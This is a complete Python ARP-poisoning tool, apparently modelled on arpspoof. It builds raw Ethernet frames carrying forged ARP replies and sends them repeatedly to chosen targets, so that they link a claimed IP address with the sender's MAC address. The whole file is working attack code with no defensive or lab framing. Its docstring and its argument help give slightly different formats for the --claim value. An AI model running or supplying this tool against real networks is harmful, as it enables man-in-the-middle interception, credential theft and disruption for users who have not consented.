#!/usr/bin/env python3
"""Sends forged ARP replies from a raw socket, as an ARP-poisoning tool (arpspoof) does: every --every
seconds, for each --claim IP=TARGET_IP:TARGET_MAC, a reply "IP is at <this interface's MAC>" to the target."""
import argparse
import socket
import time


def mac_bytes(m):
    return bytes(int(x, 16) for x in m.split(":"))


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--dev", default="eth0")
    p.add_argument("--claim", action="append", required=True, help="CLAIMED_IP=TARGET_IP@TARGET_MAC")
    p.add_argument("--every", type=float, default=2.0)
    p.add_argument("--duration", type=float, required=True)
    a = p.parse_args()
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.dev, 0))
    own = s.getsockname()[4]
    end = time.time() + a.duration
    while time.time() < end:
        for c in a.claim:
            claimed, target = c.split("=")
            tip, tmac = target.split("@")
            frame = (mac_bytes(tmac) + own + b"\x08\x06" + b"\x00\x01\x08\x00\x06\x04\x00\x02" + own
                     + socket.inet_aton(claimed) + mac_bytes(tmac) + socket.inet_aton(tip))
            s.send(frame.ljust(60, b"\x00"))
        time.sleep(a.every)


if __name__ == "__main__":
    main()
